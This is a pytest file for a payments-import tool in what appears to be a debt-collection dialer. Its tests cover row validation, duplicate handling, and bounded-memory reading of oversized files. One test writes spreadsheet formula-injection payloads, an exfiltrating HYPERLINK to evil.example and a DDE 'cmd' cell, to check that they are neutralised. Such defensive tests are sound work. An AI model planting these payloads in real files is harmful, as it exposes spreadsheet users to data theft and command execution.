"""`duecall payments import|show`: rows checked and kept or rejected, re-imports counting nothing
twice, hostile files read in bounded time and memory, an account's standing read back."""

from __future__ import annotations

import csv
import json
import sqlite3
import time
import tracemalloc
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import dialer.store.payments as store_module
from dialer.accounts.payments_import import import_payments
from dialer.accounts.payments_parse import PaymentRecord, read_payments
from dialer.core.balance import promises, standing
from dialer.core.errors import ImportFailedError, ImportFileError
from dialer.core.models import RejectedRow
from dialer.core.vocab import PromiseState
from dialer.store import Store
from duecall.cli import main
from tests.support.config import write_config
from tests.support.raw_db import execute
from tests.support.records import record
from tests.support.stores import SQLITE_ONLY, backend_store

NOW = datetime(2026, 12, 10, 15, 0, tzinfo=UTC)
HEADER = ["payment_id", "account_id", "amount", "currency", "paid_at"]


def write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def parse(path: Path) -> list[PaymentRecord | RejectedRow]:
    return list(read_payments(path, "USD"))


def reasons(path: Path) -> dict[int, str]:
    return {r.row_number: r.reason for r in parse(path) if isinstance(r, RejectedRow)}


__all__ = ["backend_store"]  # the fixture, on both backends


@pytest.fixture
async def store(backend_store: Store) -> Store:
    await backend_store.upsert_accounts(
        [record("A1"), record("A2")], NOW
    )  # USD 1234.50, due 2026-12-01, New York
    return backend_store


def stored(tmp_path: Path, sql: str) -> list[tuple[Any, ...]]:
    with sqlite3.connect(tmp_path / "t.db") as conn:
        return conn.execute(sql).fetchall()


def events(tmp_path: Path) -> list[tuple[str, dict[str, Any]]]:
    rows = stored(tmp_path, "SELECT kind, data FROM audit_events WHERE kind LIKE 'payments.%' ORDER BY seq")
    return [(kind, json.loads(data)) for kind, data in rows]


# ------------------------------------------------------------------ parsing


def test_good_rows_give_exact_amounts_and_utc_times(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "p.csv",
        [
            ["P1", "A1", "1,234.50", "usd", "2026-12-03T10:30:00+08:00"],
            ["P2", "A1", "10", "", "2026-12-04T23:00:00Z"],
            ["P3", "A2", "0.05", "USD", "2026-12-05"],
        ],
    )
    results = parse(path)
    assert all(isinstance(r, PaymentRecord) for r in results), results
    got = [(r.row_number, r.account_id, r.payment) for r in results if isinstance(r, PaymentRecord)]
    assert [(n, a, p.payment_id, p.amount_minor, p.currency) for n, a, p in got] == [
        (2, "A1", "P1", 123450, "USD"), (3, "A1", "P2", 1000, "USD"), (4, "A2", "P3", 5, "USD"),
    ]  # fmt: skip
    assert got[0][2].paid_at == datetime(2026, 12, 3, 2, 30, tzinfo=UTC) and got[0][2].paid_on is None
    assert got[2][2].paid_on == date(2026, 12, 5)


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (["", "A1", "10", "USD", "2026-12-03"], "payment_id: missing (the lender's reference"),
        (["P1", "", "10", "USD", "2026-12-03"], "account_id: missing"),
        (["P1", "A1", "-10", "USD", "2026-12-03"], "amount: '-10' is negative"),
        (["P1", "A1", "0", "USD", "2026-12-03"], "amount: '0' must be greater than zero"),
        (["P1", "A1", "1.005", "USD", "2026-12-03"], "amount: '1.005' has more decimals than USD allows (2)"),
        (["P1", "A1", "10", "RMB", "2026-12-03"], "currency: 'RMB' is not an ISO 4217 currency code"),
        (
            ["P1", "A1", "10", "USD", "2026-12-03T10:00:00"],
            "paid_at: '2026-12-03T10:00:00' has no UTC offset",
        ),
        (["P1", "A1", "10", "USD", "2026-02-30"], "paid_at: '2026-02-30' is not a real date"),
        (["P1", "A1", "10", "USD", "yesterday"], "paid_at: 'yesterday' is not a date or date-time"),
        (["P1", "A1", "10", "USD", "0001-01-01T00:00:00+08:00"], "paid_at: cannot be read (OverflowError)"),
        (["P\x001", "A1", "10", "USD", "2026-12-03"], "payment_id: 'P\\x001' contains U+0000"),
        (["P1", "A\u200b1", "10", "USD", "2026-12-03"], "account_id: 'A\\u200b1' contains U+200B"),
    ],
)
def test_a_bad_value_is_a_reject_naming_its_row_and_field(
    tmp_path: Path, row: list[str], reason: str
) -> None:
    path = write_csv(tmp_path / "p.csv", [["OK", "A1", "1", "USD", "2026-12-03"], row])
    found = reasons(path)
    assert list(found) == [3] and found[3].startswith(reason), found


def test_several_problems_in_one_row_are_all_named(tmp_path: Path) -> None:
    found = reasons(write_csv(tmp_path / "p.csv", [["", "A1", "abc", "USD", "soon"]]))
    assert [part.split(":")[0] for part in found[2].split("; ")] == ["payment_id", "amount", "paid_at"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b"payment_id,account_id,amount\nP1,A1,10\n", "missing required column(s): paid_at"),
        (b'payment_id,account_id,amount,paid_at\nP1,A1,10,"2026\n', 'a quote (") is left open'),
        (b"payment_id,account_id,amount,paid_at\nP1,A1,\xb5\xc4,2026-12-01\n", "the file is not UTF-8"),
    ],
)
def test_a_file_that_cannot_be_used_is_refused_as_a_whole(
    tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "p.csv"
    path.write_bytes(content)
    with pytest.raises(ImportFileError) as caught:
        read_payments(path, "USD")
    assert str(path) in str(caught.value) and message in str(caught.value)


# ------------------------------------------------------------------ importing


@SQLITE_ONLY  # reads the database file
async def test_import_keeps_good_rows_and_rejects_the_rest_in_the_rejects_file(
    tmp_path: Path, store: Store
) -> None:
    path = write_csv(
        tmp_path / "p.csv",
        [
            ["P1", "A1", "100.00", "USD", "2026-12-03T10:30:00-05:00"],
            ["P2", "NOPE", "5", "USD", "2026-12-03"],
            ["P3", "A1", "5", "CNY", "2026-12-03"],
            ["P4", "A2", "5", "USD", "2026-12-31"],
            ["P5", "A2", "5", "USD", "bad"],
            ["P6", "A2", "34.50", "USD", "2026-12-04"],
        ],
    )
    report = await import_payments(store, path, "USD", NOW, tmp_path / "rejects.csv")
    assert (report.rows, report.inserted, report.duplicates, report.rejected) == (6, 2, 0, 4)
    assert [(r.row_number, r.reason) for r in report.first_rejects] == [
        (3, "account_id: 'NOPE' is not an imported account (import it first)"),
        (4, "currency: CNY differs from the account's USD"),
        (5, "paid_at: 2026-12-31 is in the future"),
        (6, "paid_at: 'bad' is not a date or date-time like 2026-12-01 or 2026-12-01T10:30:00+08:00"),
    ]
    kept = read_csv(tmp_path / "rejects.csv")
    assert kept[0] == ["row_number", "reason", *HEADER]
    assert [row[0] for row in kept[1:]] == ["3", "4", "5", "6"] and kept[1][2:] == [
        "P2",
        "NOPE",
        "5",
        "USD",
        "2026-12-03",
    ]
    assert stored(
        tmp_path, "SELECT payment_id, amount_minor, paid_at, paid_on FROM payments ORDER BY id"
    ) == [
        ("P1", 10000, "2026-12-03T15:30:00.000000Z", None),
        ("P6", 3450, "2026-12-04T05:00:00.000000Z", "2026-12-04"),  # the start of the day in New York
    ]
    assert stored(tmp_path, "SELECT rows, inserted, duplicates, rejected FROM payment_imports") == [
        (6, 2, 0, 4)
    ]
    assert [kind for kind, _ in events(tmp_path)] == ["payments.import_batch", "payments.imported"]
    assert events(tmp_path)[0][1]["amounts"] == {"USD": 13450}


async def test_importing_the_same_file_again_counts_nothing_twice(tmp_path: Path, store: Store) -> None:
    rows = [["P1", "A1", "100", "USD", "2026-12-03"], ["P2", "A1", "200", "USD", "2026-12-05T12:00:00Z"]]
    path = write_csv(tmp_path / "p.csv", rows)
    first = await import_payments(store, path, "USD", NOW, tmp_path / "r.csv")
    again = await import_payments(store, path, "USD", NOW, tmp_path / "r.csv")
    assert (first.inserted, first.duplicates, again.inserted, again.duplicates) == (2, 0, 0, 2)
    assert again.rejected == 0 and again.rejects_file is None
    found = await store.account_payments("A1")
    assert found is not None and sum(p.amount_minor for p in found.payments) == 30000
    assert standing(found.account, found.payments, (), NOW).balance_minor == 123450 - 30000


@SQLITE_ONLY  # reads the database file
async def test_a_known_payment_id_with_other_values_is_rejected_and_the_stored_one_kept(
    tmp_path: Path, store: Store
) -> None:
    await import_payments(
        store,
        write_csv(tmp_path / "a.csv", [["P1", "A1", "100", "USD", "2026-12-03"]]),
        "USD",
        NOW,
        tmp_path / "r.csv",
    )
    changed = write_csv(
        tmp_path / "b.csv",
        [
            ["P1", "A1", "999", "USD", "2026-12-03"],
            ["P2", "A2", "1", "USD", "2026-12-03"],
            ["P2", "A2", "2", "USD", "2026-12-03"],
            ["P2", "A2", "1", "USD", "2026-12-03"],
        ],
    )
    report = await import_payments(store, changed, "USD", NOW, tmp_path / "r.csv")
    assert (report.inserted, report.duplicates, report.rejected) == (1, 1, 2)
    assert [(r.row_number, r.reason) for r in report.first_rejects] == [
        (
            2,
            "payment_id: 'P1' was imported with other values (account 'A1', payment import 1 row 2); "
            "not changed",
        ),
        (4, "payment_id: 'P2' was imported with other values (row 3 of this file); not changed"),
    ]
    assert stored(tmp_path, "SELECT payment_id, amount_minor FROM payments ORDER BY id") == [
        ("P1", 10000),
        ("P2", 100),
    ]


async def test_formula_cells_are_neutralised_in_the_rejects_file_and_read_back_as_written(
    tmp_path: Path, store: Store
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    path = write_csv(
        tmp_path / "p.csv",
        [
            ["@SUM(1+1)", formula, "10", "USD", "2026-12-03"],
            ["+cmd|' /C calc'!A0", "A1", "-5", "USD", "2026-12-03"],
        ],
    )
    await import_payments(store, path, "USD", NOW, tmp_path / "r.csv")
    kept = read_csv(tmp_path / "r.csv")
    assert kept[1][2:4] == ["'@SUM(1+1)", "'" + formula] and kept[2][2] == "'+cmd|' /C calc'!A0"
    assert kept[2][4] == "-5"  # a number stays as it is
    again = parse(tmp_path / "r.csv")  # read back: the lender's values (the first row parses now)
    assert [next(csv.reader([r.raw]))[2:4] for r in again] == [
        ["@SUM(1+1)", formula],
        ["+cmd|' /C calc'!A0", "A1"],
    ]


@SQLITE_ONLY  # reads the database file
async def test_a_failure_mid_import_leaves_whole_batches_and_is_reported_failed(
    tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_append = store_module.append_audit

    async def failing_append(db: Any, batch_events: Any) -> None:
        if any(e.kind == "payments.import_batch" and e.data["batch"] == 2 for e in batch_events):
            raise sqlite3.OperationalError("disk I/O error (injected)")
        await real_append(db, batch_events)

    monkeypatch.setattr(store_module, "append_audit", failing_append)
    rows = [[f"P{i}", "A1", "1", "USD", "2026-12-03"] for i in range(6000)]
    with pytest.raises(ImportFailedError, match=r"failed after 5000 rows.*disk I/O error \(injected\)"):
        await import_payments(store, write_csv(tmp_path / "p.csv", rows), "USD", NOW, tmp_path / "r.csv")
    assert stored(tmp_path, "SELECT count(*) FROM payments") == [(5000,)]
    assert [kind for kind, _ in events(tmp_path)] == ["payments.import_batch", "payments.import_failed"]
    assert events(tmp_path)[1][1]["inserted"] == 5000


# ------------------------------------------------------------ hostile input


def test_a_48_mib_line_is_one_reject_read_in_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("w", encoding="utf-8") as out:
        out.write(",".join(HEADER) + "\nP1,A1,1,USD,2026-12-03\nP2,A1,")
        for _ in range(48):
            out.write("9" * (1 << 20))
        out.write(",USD,2026-12-03\nP3,A1,1,USD,2026-12-03\n")
    tracemalloc.start()
    started = time.perf_counter()
    try:
        results = parse(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 10 and peak < 24 << 20
    assert [type(r) for r in results] == [PaymentRecord, RejectedRow, PaymentRecord]
    assert isinstance(results[1], RejectedRow) and results[1].row_number == 3
    assert results[1].reason.startswith("row: longer than 1048576 bytes (only its start was read)")


def test_a_1_gib_file_of_nul_bytes_is_read_through_in_bounded_time_and_memory(tmp_path: Path) -> None:
    path = tmp_path / "gig.csv"
    with path.open("wb") as out:
        out.write((",".join(HEADER) + "\nP1,A1,1,USD,2026-12-03\nP2,A1,").encode())
        out.seek(1 << 30, 1)  # a hole: 1 GiB of NUL bytes on one line
        out.write(b"\nP3,A1,1,USD,2026-12-03\n")
    tracemalloc.start()
    started = time.perf_counter()
    try:
        results = parse(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    elapsed = time.perf_counter() - started
    assert elapsed < 120 and peak < 24 << 20, (elapsed, peak)
    assert [type(r) for r in results] == [PaymentRecord, RejectedRow, PaymentRecord]


async def test_many_rejected_rows_are_kept_without_holding_them_in_memory(
    tmp_path: Path, store: Store
) -> None:
    rows = [[f"P{i}", f"NOBODY{i}", "1", "USD", "2026-12-03", "x" * 200] for i in range(30_000)]
    path = write_csv(tmp_path / "p.csv", rows, [*HEADER, "notes"])
    tracemalloc.start()
    try:
        report = await import_payments(store, path, "USD", NOW, tmp_path / "r.csv")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert report.rejected == 30_000 and len(report.first_rejects) == 20
    # Measured: 8.2 MiB; a list of these 30,000 rejects alone takes 14.3 MiB more.
    assert peak < 16 << 20, peak
    assert len(read_csv(tmp_path / "r.csv")) == 30_001


# ------------------------------------------------------------ an account's standing


@SQLITE_ONLY  # reads the database file
async def test_account_payments_reads_payments_and_the_promises_of_calls_and_texts(
    tmp_path: Path, store: Store
) -> None:
    db = tmp_path / "t.db"
    execute(db, "INSERT INTO campaigns (id, name, created_at) VALUES (1, 'c', '2026-12-01T00:00:00.000000Z')")
    execute(
        db,
        "INSERT INTO attempts (id, campaign_id, account_pk, phone_e164, attempt_no, state, decided_at) "
        "VALUES (9, 1, 1, '+12025550101', 1, 'ended', '2026-12-02T15:00:00.000000Z')",
    )
    execute(
        db,
        "INSERT INTO outcomes (attempt_id, outcome, promised_date, promised_amount_minor, at) "
        "VALUES (9, 'promise_to_pay', '2026-12-05', 123450, '2026-12-02T15:01:00.000000Z')",
    )
    execute(
        db,
        "INSERT INTO inbound_messages (id, received_at, phone_e164, to_number, text, kind, outcome, "
        "account_pk) VALUES (4, '2026-12-03T15:00:00.000000Z', '+12025550101', '100', '1', 'answer', "
        "'promise_to_pay', 1)",
    )
    path = write_csv(tmp_path / "p.csv", [["P1", "A1", "234.50", "USD", "2026-12-04"]])
    await import_payments(store, path, "USD", NOW, tmp_path / "r.csv")
    found = await store.account_payments("A1")
    assert found is not None and [p.payment_id for p in found.payments] == ["P1"]
    made = promises(found.promises, found.account.time_zones, found.account.due_date)
    verdicts = standing(found.account, found.payments, made, NOW).promises
    assert [(v.promise.source, v.promise.due_on, v.state, v.decided_on) for v in verdicts] == [
        ("call", date(2026, 12, 5), PromiseState.PARTIALLY_KEPT, date(2026, 12, 6)),
        ("sms", date(2026, 12, 5), PromiseState.PARTIALLY_KEPT, date(2026, 12, 6)),  # confirms the call's
    ]
    assert await store.account_payments("NOPE") is None


def test_the_commands_import_then_show(tmp_path: Path) -> None:
    cfg = write_config(
        tmp_path / "duecall.toml",
        {
            "store": {"path": str(tmp_path / "d.db")},
            "asterisk": {"state_dir": str(tmp_path / "var")},
            "accounts": {"default_region": "US", "default_currency": "USD", "default_language": "en-US"},
        },
    )
    borrowers = tmp_path / "b.csv"
    borrowers.write_text(
        "account_id,name,phone,time_zone,amount,due_date\nA1,Ann,+12025550101,America/New_York,1234.50,2026-01-31\n",
        encoding="utf-8",
    )
    path = write_csv(
        tmp_path / "p.csv", [["P1", "A1", "234.50", "", "2026-02-01"], ["P2", "NOPE", "1", "", "2026-02-01"]]
    )

    def duecall(*args: str) -> tuple[int, str]:
        result = CliRunner().invoke(main, ["--config", str(cfg), *args], env={"COLUMNS": "200"})
        return result.exit_code, result.output

    code, out = duecall("accounts", "import", str(borrowers))
    assert code == 0 and "1 new" in out, out
    code, out = duecall("payments", "import", str(path))
    assert code == 0, out
    assert "2 rows: 1 new, 0 already imported, 1 rejected" in out
    assert f"{path}: row 3: account_id: 'NOPE' is not an imported account" in out
    assert (tmp_path / "var" / "rejects" / "p-rejects.csv").exists()
    assert "1 already imported" in duecall("payments", "import", str(path))[1]
    code, out = duecall("payments", "show", "A1")
    assert code == 0, out
    assert "due 1234.50 USD on 2026-01-31" in out and "balance 1000.00 USD" in out
    assert "bucket M5+" in out or "bucket M4" in out  # how late depends on today's date
    assert "P1" in out and "234.50 USD" in out
    code, out = duecall("payments", "show", "NOPE")
    assert code == 1 and "no such account" in out
